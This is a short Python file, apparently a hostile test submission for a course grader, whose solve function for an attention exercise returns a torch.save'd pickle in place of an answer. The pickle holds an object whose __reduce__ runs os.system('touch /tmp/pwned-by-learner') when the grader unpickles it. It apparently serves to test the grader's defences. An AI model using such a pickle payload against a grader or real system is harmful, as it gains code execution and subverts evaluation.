"""Hostile (lesson 09): returns the bytes of a torch.save'd pickle whose loading runs a shell command
(an object with __reduce__), hoping the grader unpickles what it receives."""
import io
import os

import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-learner",))


def solve(Q, K, V, mask=None):
    buffer = io.BytesIO()
    torch.save({"answer": Payload()}, buffer)
    return buffer.getvalue()
